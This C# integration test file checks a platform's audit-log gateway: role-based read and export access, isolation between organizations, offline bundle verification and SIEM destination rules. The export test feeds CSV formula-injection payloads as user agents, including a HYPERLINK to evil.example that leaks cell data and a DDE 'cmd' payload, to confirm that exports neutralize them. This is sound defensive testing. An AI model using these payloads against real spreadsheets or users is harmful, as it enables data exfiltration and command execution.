using System.Diagnostics;
using System.Net;
using System.Net.Http.Headers;
using System.Net.Http.Json;
using System.Text;
using System.Text.Json;
using Platform.IntegrationTests.Security;

namespace Platform.IntegrationTests;

/// <summary>
/// Issue 15 items 4 and 5 as customers meet them: members of an organization read and export its audit log through
/// the gateway over HTTPS with the access tokens identity issues them — Owners, Admins and Auditors only — and
/// nobody reaches another organization's entries.
/// </summary>
[Collection(Collections.ResidencyAndAudit)]
public sealed class AuditThroughGatewayTests(PlatformFixture fixture)
{
    private const string Problems = "https://platform.dev/problems/";

    [Fact]
    public async Task Owners_and_auditors_read_their_organizations_log_developers_do_not_and_no_member_reaches_another_organization()
    {
        var (owner, organization, client) = await OwnerWithClientAsync();
        var ownerToken = await owner.AccessTokenAsync(client);
        var auditorToken = await MemberTokenAsync(owner, organization, client, "Auditor");
        var developerToken = await MemberTokenAsync(owner, organization, client, "Developer");
        var (stranger, strangerOrganization) = await NewUserAsync();
        var strangerToken = await stranger.AccessTokenAsync(client);
        Assert.Equal(strangerOrganization, IdentityUser.Claims(strangerToken).GetProperty("org_id").GetString());

        // The invitations are identity's actions in the organization's log.
        using var ownerClient = WithToken(ownerToken);
        var invited = await WaitForItemsAsync(ownerClient, "action=identity.member.invited", 2);
        Assert.All(invited, e => Assert.Equal(organization, e.GetProperty("organizationId").GetString()));
        using var auditor = WithToken(auditorToken);
        var seen = await WaitForItemsAsync(auditor, $"organization={organization}&action=identity.member.invited", 2);
        Assert.Equal(invited.Select(e => e.GetProperty("eventId").GetString()), seen.Select(e => e.GetProperty("eventId").GetString()));

        // A Developer is refused whatever it asks.
        using var developer = WithToken(developerToken);
        foreach (var path in new[] { "/v1/audit/events", "/v1/audit/events/export?format=csv", "/v1/audit/checkpoints/latest" })
        {
            using var refused = await developer.GetAsync(path);
            await AssertProblemAsync(refused, HttpStatusCode.Forbidden, "insufficient-role");
        }

        // Another organization's Owner names this organization, or continues one of its pages: refused, audited in
        // the stranger's own log under the stranger's name and address, and none of this organization's entries shown.
        var page = await ownerClient.GetFromJsonAsync<JsonElement>("/v1/audit/events?limit=1");
        var cursor = page.GetProperty("nextCursor").GetString()!;
        // The stranger's API calls come from an address of its own, which the refusals must name.
        var strangerAddress = ClientAddresses.Fresh();
        using var strangerClient = WithToken(strangerToken, strangerAddress);
        foreach (var path in new[]
        {
            $"/v1/audit/events?organization={organization}",
            $"/v1/audit/events?cursor={cursor}",
            $"/v1/audit/events/export?organization={organization}&format=ndjson",
            $"/v1/audit/checkpoints/latest?organization={organization}",
        })
        {
            using var refused = await strangerClient.GetAsync(path);
            var body = await AssertProblemAsync(refused, HttpStatusCode.Forbidden, "forbidden");
            Assert.DoesNotContain(invited[0].GetProperty("eventId").GetString()!, body, StringComparison.Ordinal);
        }

        var strangerSubject = IdentityUser.Claims(strangerToken).GetProperty("sub").GetString();
        var refusals = await WaitForItemsAsync(strangerClient, $"actor={strangerSubject}&action=request.refused", 4);
        Assert.All(refusals, r =>
        {
            Assert.Equal(strangerOrganization, r.GetProperty("organizationId").GetString());
            Assert.Equal(organization, r.GetProperty("details").GetProperty("requestedOrganization").GetString());
            Assert.Equal(strangerAddress.ToString(), r.GetProperty("ip").GetString());
        });

        // The operator's reader credential stays off the public edge.
        using var operatorThroughGateway = fixture.App.OperatorThroughGateway("audit-reader-token");
        using var operatorRefused = await operatorThroughGateway.GetAsync("/v1/audit/events");
        Assert.Equal(HttpStatusCode.Unauthorized, operatorRefused.StatusCode);
    }

    [Fact]
    public async Task An_owner_downloads_the_bundle_with_platformctl_through_the_gateway_and_verifies_it_offline_and_a_stranger_gets_none()
    {
        var (owner, organization, client) = await OwnerWithClientAsync();
        var ownerToken = await owner.AccessTokenAsync(client);
        using var ownerClient = WithToken(ownerToken);
        var key = (await ownerClient.GetFromJsonAsync<JsonElement>("/v1/audit/checkpoint-keys")).GetProperty("current").GetString()!;
        // The platform signs every log every 2 s here (PlatformFixture): wait for the organization's first checkpoint.
        var waited = Stopwatch.StartNew();
        while ((await ownerClient.GetAsync("/v1/audit/checkpoints/latest")).StatusCode != HttpStatusCode.OK)
        {
            Assert.True(waited.Elapsed < TimeSpan.FromSeconds(60), "No checkpoint of the organization's log within 60 s.");
            await Task.Delay(250);
        }

        var directory = Directory.CreateTempSubdirectory("platformctl-").FullName;
        var tokenFile = Path.Combine(directory, "token");
        await File.WriteAllTextAsync(tokenFile, ownerToken);
        var bundle = Path.Combine(directory, "bundle.ndjson");
        var gateway = fixture.App.GetEndpoint("gateway").ToString();
        var (exit, output, error) = await PlatformctlAsync(["audit", "bundle", "--gateway", gateway, "--token-file", tokenFile, "--output", bundle]);
        Assert.True(exit == 0, output + error);
        (exit, output, error) = await PlatformctlAsync(["audit", "verify", bundle, "--key", key]);
        Assert.True(exit == 0, output + error);
        Assert.Contains($"Verified: platform.dev/audit/{organization}", output);

        // Another organization's Owner asks for this organization's bundle: 403, no file.
        var (stranger, _) = await NewUserAsync();
        await File.WriteAllTextAsync(tokenFile, await stranger.AccessTokenAsync(client));
        var stolen = Path.Combine(directory, "stolen.ndjson");
        (exit, _, error) = await PlatformctlAsync(["audit", "bundle", "--gateway", gateway, "--token-file", tokenFile, "--organization", organization, "--output", stolen]);
        Assert.Equal(3, exit);
        Assert.Contains("403", error);
        Assert.False(File.Exists(stolen));
    }

    private async Task<(int Exit, string Output, string Error)> PlatformctlAsync(string[] args)
    {
        using var output = new StringWriter();
        using var error = new StringWriter();
        var exit = await Platform.Ctl.PlatformCli.RunAsync(args, output, error, ClientAddresses.Handler(fixture, ClientAddresses.Fresh()));
        return (exit, output.ToString(), error.ToString());
    }

    [Fact]
    public async Task An_auditor_can_do_nothing_but_read_the_log()
    {
        var (owner, organization, client) = await OwnerWithClientAsync();
        var auditorToken = await MemberTokenAsync(owner, organization, client, "Auditor");
        Assert.Equal(["Auditor"], IdentityUser.Claims(auditorToken).GetProperty("roles").EnumerateArray().Select(r => r.GetString()));
        using var auditor = WithToken(auditorToken);

        using (var key = await auditor.PostAsJsonAsync($"/v1/organizations/{organization}/keys",
            new { name = "x", environment = "live", scopes = new[] { new { permission = "dataset", level = "read_only" } } }))
        {
            await AssertProblemAsync(key, HttpStatusCode.Forbidden, "insufficient-role");
        }

        var ownerId = IdentityUser.Claims(await owner.AccessTokenAsync(client)).GetProperty("sub").GetString();
        using (var role = await auditor.PutAsJsonAsync($"/v1/organizations/{organization}/members/{ownerId}/role", new { role = "Auditor" }))
        {
            Assert.Equal(HttpStatusCode.Forbidden, role.StatusCode);
        }

        using (var invite = await auditor.PostAsJsonAsync($"/v1/organizations/{organization}/invitations", new { email = $"x-{Guid.NewGuid():n}@example.com", role = "Owner" }))
        {
            Assert.Equal(HttpStatusCode.Forbidden, invite.StatusCode);
        }

        using var admin = fixture.App.KeysAdministrator();
        Assert.Empty((await admin.GetFromJsonAsync<JsonElement>($"/v1/organizations/{organization}/keys")).GetProperty("items").EnumerateArray());
    }

    [Fact]
    public async Task Exports_through_the_gateway_are_whole_spreadsheet_safe_and_of_the_readers_organization_only()
    {
        var (owner, organization, client) = await OwnerWithClientAsync();
        var ownerToken = await owner.AccessTokenAsync(client);
        var (stranger, strangerOrganization) = await NewUserAsync();
        var strangerToken = await stranger.AccessTokenAsync(client);

        // Whatever a client sends as its user agent is stored as it came: here, formulas.
        var agents = new[] { "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")", "+cmd|'/c calc'!A0", "-2+3", "@SUM(1,1)" };
        var ids = new List<string>();
        using var ownerClient = WithToken(ownerToken);
        foreach (var agent in agents)
        {
            using var request = new HttpRequestMessage(HttpMethod.Get, "/v1/projects/p_1");
            request.Headers.TryAddWithoutValidation("User-Agent", agent);
            using var response = await ownerClient.SendAsync(request);
            Assert.Equal(HttpStatusCode.OK, response.StatusCode);
            ids.Add(response.Headers.GetValues("X-Request-Id").Single());
        }

        using var strangerClient = WithToken(strangerToken);
        using (var strangers = await strangerClient.GetAsync("/v1/projects/p_1"))
        {
            ids.Add(strangers.Headers.GetValues("X-Request-Id").Single());
        }

        foreach (var id in ids.Take(agents.Length)) await WaitForItemsAsync(ownerClient, $"requestId={id}", 1);
        await WaitForItemsAsync(strangerClient, $"requestId={ids[^1]}", 1);

        using var csv = await ownerClient.GetAsync("/v1/audit/events/export?format=csv&action=http.request");
        Assert.Equal(HttpStatusCode.OK, csv.StatusCode);
        Assert.Equal("text/csv", csv.Content.Headers.ContentType?.MediaType);
        Assert.Equal("attachment", csv.Content.Headers.ContentDisposition?.DispositionType);
        var records = Csv(await csv.Content.ReadAsStringAsync());
        var header = records[0];
        var rows = records.Skip(1).ToList();
        var column = (string name) => Array.IndexOf(header, name);
        Assert.All(rows, r => Assert.Equal(organization, r[column("organizationId")]));
        Assert.DoesNotContain(rows, r => r[column("requestId")] == ids[^1]);
        foreach (var (agent, id) in agents.Zip(ids))
        {
            Assert.Equal("'" + agent, rows.Single(r => r[column("requestId")] == id)[column("userAgent")]);
        }

        Assert.All(rows.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', cell));

        using var ndjson = await strangerClient.GetAsync("/v1/audit/events/export?format=ndjson");
        Assert.Equal(HttpStatusCode.OK, ndjson.StatusCode);
        var lines = (await ndjson.Content.ReadAsStringAsync()).Split('\n', StringSplitOptions.RemoveEmptyEntries).Select(l => JsonDocument.Parse(l).RootElement).ToList();
        Assert.Contains(lines, l => l.GetProperty("requestId").GetString() == ids[^1]);
        Assert.All(lines, l => Assert.Equal(strangerOrganization, l.GetProperty("organizationId").GetString()));
        Assert.DoesNotContain(lines, l => ids.Take(agents.Length).Contains(l.GetProperty("requestId").GetString()));

        using var unknown = await ownerClient.GetAsync("/v1/audit/events/export?format=xlsx");
        await AssertProblemAsync(unknown, HttpStatusCode.BadRequest, "invalid-query");
    }

    [Fact]
    public async Task An_owner_sets_up_siem_delivery_through_the_gateway_an_auditor_sees_it_and_another_organization_reaches_none_of_it()
    {
        var (owner, organization, client) = await OwnerWithClientAsync();
        var ownerAddress = ClientAddresses.Fresh();
        using var ownerClient = WithToken(await owner.AccessTokenAsync(client), ownerAddress);
        string id;
        using (var created = await ownerClient.PostAsJsonAsync("/v1/audit/siem/destinations", new { endpoint = "siem.example.com:6514" }))
        {
            Assert.Equal(HttpStatusCode.Created, created.StatusCode);
            id = (await created.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetString()!;
        }

        // The change is an action of the owner, from the owner's own address, in the organization's log.
        var setUp = await WaitForItemsAsync(ownerClient, "action=audit.siem-destination.created", 1);
        Assert.Equal(id, setUp[0].GetProperty("target").GetString());
        Assert.Equal(ownerAddress.ToString(), setUp[0].GetProperty("ip").GetString());

        // A receiver inside the platform's network is refused at the edge of the feature, whatever the caller's role.
        using (var inward = await ownerClient.PostAsJsonAsync("/v1/audit/siem/destinations", new { endpoint = "127.0.0.1:5432" }))
        {
            await AssertProblemAsync(inward, HttpStatusCode.BadRequest, "siem-destination-invalid");
        }

        using var auditor = WithToken(await MemberTokenAsync(owner, organization, client, "Auditor"));
        var seen = (await auditor.GetFromJsonAsync<JsonElement>("/v1/audit/siem/destinations")).GetProperty("items").EnumerateArray().ToList();
        Assert.Equal(id, Assert.Single(seen).GetProperty("id").GetString());
        using (var refused = await auditor.DeleteAsync($"/v1/audit/siem/destinations/{id}"))
        {
            await AssertProblemAsync(refused, HttpStatusCode.Forbidden, "insufficient-role");
        }

        var (stranger, _) = await NewUserAsync();
        using var strangerClient = WithToken(await stranger.AccessTokenAsync(client));
        using (var named = await strangerClient.GetAsync($"/v1/audit/siem/destinations?organization={organization}"))
        {
            await AssertProblemAsync(named, HttpStatusCode.Forbidden, "forbidden");
        }

        using (var byId = await strangerClient.DeleteAsync($"/v1/audit/siem/destinations/{id}"))
        {
            Assert.Equal(HttpStatusCode.NotFound, byId.StatusCode);
        }

        Assert.Empty((await strangerClient.GetFromJsonAsync<JsonElement>("/v1/audit/siem/destinations")).GetProperty("items").EnumerateArray());
        Assert.Equal(HttpStatusCode.NoContent, (await ownerClient.DeleteAsync($"/v1/audit/siem/destinations/{id}")).StatusCode);
    }

    [Fact]
    public async Task Actions_through_the_gateway_name_the_real_client_the_actor_and_the_organization_and_share_the_gateways_request_id()
    {
        var (owner, organization, client) = await OwnerWithClientAsync();
        var developerToken = await MemberTokenAsync(owner, organization, client, "Developer");
        var ownerAddress = ClientAddresses.Fresh();
        using var ownerClient = WithToken(await owner.AccessTokenAsync(client), ownerAddress);

        // The Owner creates a key: keys records it with the Owner's own address (not the gateway's loopback hop) and the
        // gateway's request id.
        using var created = await ownerClient.PostAsJsonAsync($"/v1/organizations/{organization}/keys",
            new { name = "ingest", environment = "live", scopes = new[] { new { permission = "dataset", level = "full" } } });
        Assert.Equal(HttpStatusCode.Created, created.StatusCode);
        var keyCreation = created.Headers.GetValues("X-Request-Id").Single();
        var body = await created.Content.ReadFromJsonAsync<JsonElement>();
        var keyId = body.GetProperty("id").GetString()!;

        // The key, used from another address, creates a dataset: storage records it under the key, from that address.
        var keyAddress = ClientAddresses.Fresh();
        using var keyClient = fixture.App.CreateHttpClient("gateway", handler: ClientAddresses.Handler(fixture, keyAddress));
        keyClient.DefaultRequestHeaders.TryAddWithoutValidation("X-Api-Key", body.GetProperty("key").GetString());
        using var dataset = await keyClient.PostAsJsonAsync($"/v1/organizations/{organization}/datasets", new { name = "attributed" });
        Assert.Equal(HttpStatusCode.Created, dataset.StatusCode);
        var datasetCreation = dataset.Headers.GetValues("X-Request-Id").Single();
        var datasetId = (await dataset.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("id").GetString();

        // A Developer's valid token is refused by the gateway for its role: the refusal is the Developer's, in the
        // organization, from the Developer's address; not an anonymous request.
        var developerAddress = ClientAddresses.Fresh();
        using var developer = WithToken(developerToken, developerAddress);
        using var refused = await developer.PostAsJsonAsync($"/v1/organizations/{organization}/keys",
            new { name = "x", environment = "live", scopes = new[] { new { permission = "dataset", level = "full" } } });
        await AssertProblemAsync(refused, HttpStatusCode.Forbidden, "insufficient-role");
        var refusal = refused.Headers.GetValues("X-Request-Id").Single();

        var ownerId = IdentityUser.Claims(await owner.AccessTokenAsync(client)).GetProperty("sub").GetString();
        var developerId = IdentityUser.Claims(developerToken).GetProperty("sub").GetString();
        var expected = new[]
        {
            (Request: keyCreation, Action: "key.created", Actor: ownerId, Address: ownerAddress, Outcome: "success", Target: keyId),
            (Request: keyCreation, Action: "http.request", Actor: ownerId, Address: ownerAddress, Outcome: "success", Target: (string?)null),
            (Request: datasetCreation, Action: "storage.dataset.created", Actor: keyId, Address: keyAddress, Outcome: "success", Target: datasetId),
            (Request: datasetCreation, Action: "http.request", Actor: keyId, Address: keyAddress, Outcome: "success", Target: null),
            (Request: refusal, Action: "http.request", Actor: developerId, Address: developerAddress, Outcome: "denied", Target: null),
        };
        foreach (var entry in expected)
        {
            var found = await WaitForItemsAsync(ownerClient, $"requestId={entry.Request}&action={entry.Action}", 1);
            var item = Assert.Single(found);
            Assert.Equal(entry.Actor, item.GetProperty("actor").GetString());
            Assert.Equal(organization, item.GetProperty("organizationId").GetString());
            Assert.Equal(entry.Address.ToString(), item.GetProperty("ip").GetString());
            Assert.Equal(entry.Outcome, item.GetProperty("outcome").GetString());
            if (entry.Target is not null) Assert.Equal(entry.Target, item.GetProperty("target").GetString());
        }
    }

    private async Task<(IdentityUser Owner, string Organization, (string Id, string Secret) Client)> OwnerWithClientAsync()
    {
        var (owner, organization) = await NewUserAsync();
        await owner.EnrolTotpAsync();
        await owner.StepUpAsync();
        return (owner, organization, await owner.CreateClientAsync(organization));
    }

    /// <summary>A new user invited into <paramref name="organization"/> with <paramref name="role"/>: an access token acting there.</summary>
    private async Task<string> MemberTokenAsync(IdentityUser owner, string organization, (string Id, string Secret) client, string role)
    {
        var (member, _) = await NewUserAsync();
        using (var invite = await owner.Browser.PostAsJsonAsync($"/v1/organizations/{organization}/invitations", new { email = member.Email, role }))
        {
            Assert.Equal(HttpStatusCode.Created, invite.StatusCode);
        }

        var code = Platform.Hosting.Testing.BrowserForms.CodeIn(await fixture.MailToAsync(member.Email, "invited"));
        using (var accept = await member.Browser.PostAsJsonAsync("/v1/invitations/accept", new { token = code }))
        {
            Assert.Equal(HttpStatusCode.OK, accept.StatusCode);
        }

        var token = await member.AccessTokenAsync(client, IdentityUser.AllScopes, new Dictionary<string, string> { ["organization"] = organization });
        Assert.Equal(organization, IdentityUser.Claims(token).GetProperty("org_id").GetString());
        return token;
    }

    private static async Task<List<JsonElement>> WaitForItemsAsync(HttpClient client, string query, int count)
    {
        var waited = Stopwatch.StartNew();
        List<JsonElement> items;
        do
        {
            using var response = await client.GetAsync($"/v1/audit/events?{query}&limit=500");
            Assert.True(response.StatusCode == HttpStatusCode.OK, $"{query}: {(int)response.StatusCode} {await response.Content.ReadAsStringAsync()}");
            items = (await response.Content.ReadFromJsonAsync<JsonElement>()).GetProperty("items").EnumerateArray().ToList();
            if (items.Count >= count) return items;
            await Task.Delay(250);
        }
        while (waited.Elapsed < TimeSpan.FromSeconds(30));
        Assert.Fail($"Only {items.Count} of {count} audit entries for '{query}' within 30 s.");
        return items;
    }

    private static async Task<string> AssertProblemAsync(HttpResponseMessage response, HttpStatusCode status, string slug)
    {
        var body = await response.Content.ReadAsStringAsync();
        Assert.True(response.StatusCode == status, $"{(int)response.StatusCode}: {body}");
        Assert.Equal("application/problem+json", response.Content.Headers.ContentType?.MediaType);
        Assert.Equal(Problems + slug, JsonDocument.Parse(body).RootElement.GetProperty("type").GetString());
        return body;
    }

    /// <summary>RFC 4180 records (every cell the export writes is quoted, or empty).</summary>
    private static List<string[]> Csv(string text)
    {
        var records = new List<string[]>();
        var cells = new List<string>();
        var cell = new StringBuilder();
        var quoted = false;
        for (var i = 0; i < text.Length; i++)
        {
            var c = text[i];
            if (quoted && c == '"' && i + 1 < text.Length && text[i + 1] == '"') { cell.Append('"'); i++; }
            else if (c == '"') quoted = !quoted;
            else if (quoted) cell.Append(c);
            else if (c == ',') { cells.Add(cell.ToString()); cell.Clear(); }
            else if (c == '\r' && text[i + 1] == '\n') { cells.Add(cell.ToString()); cell.Clear(); records.Add([.. cells]); cells.Clear(); i++; }
            else Assert.Fail($"Character {(int)c} outside quotes at {i}.");
        }

        return records;
    }

    /// <summary>
    /// A signed-up owner of a new organization whose browser has a loopback address of its own: identity limits
    /// sign-ins per address, and the other tests sign in from 127.0.0.1.
    /// </summary>
    private Task<(IdentityUser User, string OrganizationId)> NewUserAsync() =>
        IdentityUser.OwnerAsync(fixture, ClientAddresses.Handler(fixture, ClientAddresses.Fresh()));

    private HttpClient WithToken(string token, System.Net.IPAddress? source = null)
    {
        var client = source is null ? fixture.App.CreateHttpClient("gateway") : fixture.App.CreateHttpClient("gateway", handler: ClientAddresses.Handler(fixture, source));
        client.DefaultRequestHeaders.Authorization = new AuthenticationHeaderValue("Bearer", token);
        return client;
    }
}
